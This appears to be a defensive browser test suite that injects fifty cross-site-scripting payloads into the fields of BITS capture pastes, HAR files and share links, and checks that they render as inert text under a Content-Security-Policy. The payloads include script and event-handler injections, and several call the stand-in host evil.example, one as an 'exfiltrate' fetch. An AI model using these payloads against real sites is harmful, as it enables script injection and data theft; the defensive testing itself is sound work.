// The page under attack: fifty script- and HTML-injection payloads placed in every field a
// capture can carry (method, URL, header names, header values, bodies, HAR fields, share
// links) are shown as text and run nothing. Each payload that could run sets the canary
// `window.__pwned` (or calls alert, which the helpers record as a problem).

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openPage, rendered, paste, assertInert, browserForFile } from './helpers.mjs';

const PAYLOADS = [
  `<script>window.__pwned=1</script>`,
  `<img src=x onerror="window.__pwned=2">`,
  `<svg onload="window.__pwned=3">`,
  `<svg><script>window.__pwned=4</script></svg>`,
  `<iframe src="javascript:parent.__pwned=5"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>`,
  `<body onload="window.__pwned=7">`,
  `<details open ontoggle="window.__pwned=8">`,
  `<input autofocus onfocus="window.__pwned=9">`,
  `<video><source onerror="window.__pwned=10"></video>`,
  `<audio src=x onerror="window.__pwned=11">`,
  `<marquee onstart="window.__pwned=12">x</marquee>`,
  `<object data="javascript:window.__pwned=13"></object>`,
  `<embed src="javascript:window.__pwned=14">`,
  `<a href="javascript:window.__pwned=15">click</a>`,
  `javascript:window.__pwned=16`,
  `JaVaScRiPt:window.__pwned=17`,
  `data:text/html,<script>window.__pwned=18</script>`,
  `"><script>window.__pwned=19</script>`,
  `'><img src=x onerror=window.__pwned=20>`,
  `</textarea><script>window.__pwned=21</script>`,
  `</title><script>window.__pwned=22</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=23>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__pwned=24>">`,
  `<style>@import 'javascript:window.__pwned=25';</style>`,
  `<link rel=stylesheet href="javascript:window.__pwned=26">`,
  `<base href="javascript:window.__pwned=27//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=28">`,
  `<form action="javascript:window.__pwned=29"><button>x</button></form>`,
  `<button formaction="javascript:window.__pwned=30">x</button>`,
  `<isindex type=image src=1 onerror=window.__pwned=31>`,
  `<table background="javascript:window.__pwned=32">`,
  `<div style="background:url(javascript:window.__pwned=33)">`,
  `<div style="width:expression(window.__pwned=34)">`,
  `<img src="x:x" onerror="eval(atob('d2luZG93Ll9fcHduZWQ9MzU='))">`,
  `<svg><animate onbegin="window.__pwned=36" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:window.__pwned=37"><text x=20 y=20>x</text></a></svg>`,
  `<scr<script>ipt>window.__pwned=38</scr</script>ipt>`,
  `&lt;script&gt;window.__pwned=39&lt;/script&gt;`,
  `\\u003cscript\\u003ewindow.__pwned=40\\u003c/script\\u003e`,
  `%3Cscript%3Ewindow.__pwned=41%3C/script%3E`,
  `{{constructor.constructor('window.__pwned=42')()}}`,
  `\${window.__pwned=43}`,
  `<template><img src=x onerror=window.__pwned=44></template>`,
  `<select autofocus onfocus="window.__pwned=45">`,
  `<keygen autofocus onfocus="window.__pwned=46">`,
  `<frameset onload="window.__pwned=47">`,
  `<x contenteditable onblur="window.__pwned=48">x</x>`,
  `<img src="https://evil.example/pwned-49.png">`,
  `<script src="https://evil.example/pwned-50.js"></script>`,
];

let browser;
let page;

browserForFile((opened) => {
  [browser, page] = [opened, opened.page];
});

/** Opens the message cards drawn now; the list is virtualised, so handles would go stale. */
async function openAllCards() {
  await page.evaluate(() => {
    for (const card of document.querySelectorAll('#messages details.msg')) card.open = true;
  });
  await page.waitForTimeout(100);
}

const ack = 'HTTP/1.1 200 OK\nBITS-Packet-Type: Ack\nContent-Length: 0\n';

/** One input per field: every payload in that field. */
const FIELDS = {
  method: PAYLOADS.map((p) => `${p} /upload/a.txt HTTP/1.1\nBITS-Packet-Type: Ping\nContent-Length: 0\n`).join('\n'),
  url: PAYLOADS.map((p) => `BITS_POST /${p} HTTP/1.1\nBITS-Packet-Type: Ping\nContent-Length: 0\n\n${ack}`).join('\n'),
  'header names': `BITS_POST /u HTTP/1.1\nBITS-Packet-Type: Ping\n${PAYLOADS.map((p) => `${p}: v`).join('\n')}\nContent-Length: 0\n`,
  'header values': `BITS_POST /u HTTP/1.1\nBITS-Packet-Type: Create-Session\n${PAYLOADS.map((p, i) => `${['X-H', 'BITS-Supported-Protocols', 'Content-Name', 'Host', 'User-Agent'][i % 5]}: ${p}`).join('\n')}\nContent-Length: 0\n\n` +
    `HTTP/1.1 200 OK\nBITS-Packet-Type: Ack\n${PAYLOADS.map((p, i) => `${['BITS-Session-Id', 'BITS-Protocol', 'BITS-Error-Code', 'BITS-Reply-URL', 'BITS-Host-Id'][i % 5]}: ${p}`).join('\n')}\nContent-Length: 0\n`,
  'status line': PAYLOADS.map((p) => `BITS_POST /u HTTP/1.1\nBITS-Packet-Type: Ping\nContent-Length: 0\n\nHTTP/1.1 200 ${p}\nBITS-Packet-Type: Ack\nContent-Length: 0\n`).join('\n'),
};
{
  const body = PAYLOADS.join('\n');
  FIELDS.body = `BITS_POST /u HTTP/1.1\nBITS-Packet-Type: Fragment\nBITS-Session-Id: {A0FF5911-4144-45B3-BF27-27AFC8EC8A67}\nContent-Range: bytes 0-${body.length - 1}/${body.length}\nContent-Length: ${body.length}\n\n${body}\n${ack}`;
}

for (const [field, text] of Object.entries(FIELDS)) {
  test(`fifty payloads in the ${field} are shown as text and run nothing`, async () => {
    const requestsBefore = browser.requests.length;
    await paste(page, text);
    const raw = await page.textContent('#raw');
    const missing = PAYLOADS.filter((p) => !raw.includes(p));
    assert.deepEqual(missing, [], 'every payload is in the raw view, verbatim');
    // Open every message card (the decoded views are drawn on opening) and point at the
    // bytes of the first findings: still nothing runs.
    await openAllCards();
    for (const head of (await page.$$('#findings .finding-head')).slice(0, 20)) await head.click();
    await assertInert(page, browser, requestsBefore);
  });
}

test('fifty payloads in every field of a HAR file are shown as text and run nothing', async () => {
  const requestsBefore = browser.requests.length;
  const har = {
    log: {
      version: '1.2',
      creator: { name: PAYLOADS[0], version: PAYLOADS[1] },
      entries: PAYLOADS.map((p, i) => ({
        startedDateTime: '2026-11-22T06:00:00.000Z',
        time: 1,
        comment: p,
        request: {
          method: 'POST',
          url: `http://server/upload/${encodeURIComponent(p)}?q=${encodeURIComponent(p)}`,
          httpVersion: 'HTTP/1.1',
          headers: [
            { name: 'X-Http-Method-Override', value: 'BITS_POST' },
            { name: 'BITS-Packet-Type', value: 'Ping' },
            { name: 'X-Payload', value: p },
            { name: `X-${i}`, value: p },
          ],
          queryString: [{ name: p, value: p }],
          cookies: [{ name: 'c', value: p }],
          postData: { mimeType: 'text/plain', text: p },
          headersSize: -1,
          bodySize: p.length,
        },
        response: {
          status: 200,
          statusText: p,
          httpVersion: 'HTTP/1.1',
          headers: [{ name: 'BITS-Packet-Type', value: 'Ack' }, { name: 'BITS-Error-Code', value: p }],
          cookies: [],
          content: { size: p.length, mimeType: 'text/html', text: p },
          redirectURL: `javascript:window.__pwned=${i}`,
          headersSize: -1,
          bodySize: p.length,
        },
        cache: {},
        timings: { send: 0, wait: 1, receive: 0 },
      })),
    },
  };
  const dataTransfer = await page.evaluateHandle((text) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], 'hostile.har'));
    return dt;
  }, JSON.stringify(har));
  await rendered(page, () => page.dispatchEvent('body', 'drop', { dataTransfer }));
  await openAllCards();
  const shown = await page.textContent('body');
  assert.ok(PAYLOADS.filter((p) => shown.includes(p)).length >= 45, 'the payloads are shown as text');
  await assertInert(page, browser, requestsBefore);
});

test('share links carrying the payloads, forged or oversized, run nothing', async () => {
  // A real share link of a hostile paste restores it as text.
  await paste(page, FIELDS['header values']);
  await page.click('#share');
  await page.waitForFunction(() => document.getElementById('share-url').value !== '' || /too large|cannot/i.test(document.body.textContent));
  const link = await page.inputValue('#share-url');
  if (link) {
    await page.goto('about:blank');
    await page.goto(link);
    await page.waitForFunction(() => Number(document.documentElement.dataset.rendered ?? 0) > 0);
    const afterLink = browser.requests.length;
    assert.ok((await page.textContent('#raw')).includes(PAYLOADS[1]));
    await assertInert(page, browser, afterLink);
  }
  // Forged fragments: payloads where the compressed text should be.
  // The page's own files load first; from then on nothing may be requested.
  for (const p of PAYLOADS.slice(0, 20)) {
    await page.goto('about:blank');
    await openPage(page, `#v1=${encodeURIComponent(p)}`);
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
    const before = browser.requests.length;
    await page.waitForTimeout(100);
    await assertInert(page, browser, before);
  }
  await page.goto('about:blank');
  await openPage(page, `#v1=${'A'.repeat(200_000)}`);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const before = browser.requests.length;
  assert.match(await page.textContent('body'), /share link/i, 'an oversized link is refused with a message');
  await assertInert(page, browser, before);
});

test('the Content-Security-Policy itself blocks inline script and other origins, should anything slip through', async () => {
  await page.goto('about:blank');
  await openPage(page);
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
  const problemsBefore = browser.problems.length;
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    // As if a bug had put markup from the input into the page.
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = "inline"';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.setAttribute('onclick', 'window.__pwned = "handler"');
    document.body.append(holder);
    holder.click();
    let fetched = 'blocked';
    try {
      await fetch('https://evil.example/exfiltrate');
      fetched = 'sent';
    } catch {
      // connect-src 'self' refuses it before any request is made.
    }
    await new Promise((r) => setTimeout(r, 100));
    holder.remove();
    script.remove();
    return { pwned: window.__pwned, fetched, violations };
  });
  assert.equal(outcome.pwned, undefined, 'neither inline script nor an inline handler ran');
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), `script-src violations reported: ${outcome.violations}`);
  assert.ok(outcome.violations.some((d) => d.startsWith('connect-src')), `connect-src violation reported: ${outcome.violations}`);
  // The violations this test provoked on purpose are not problems of the page: check they
  // are exactly those, then go on with a fresh page.
  await page.waitForTimeout(200);
  const reported = await page.evaluate(() => window.__cspViolations ?? []);
  assert.ok(reported.length >= 2 && reported.every((v) => /^(script-src|connect-src)/.test(v)), reported.join('\n'));
  const logged = browser.problems.splice(problemsBefore);
  assert.ok(logged.every((p) => /Content Security Policy|Refused|Failed to fetch/i.test(p)), logged.join('\n'));
  await page.goto('about:blank');
  await openPage(page);
});
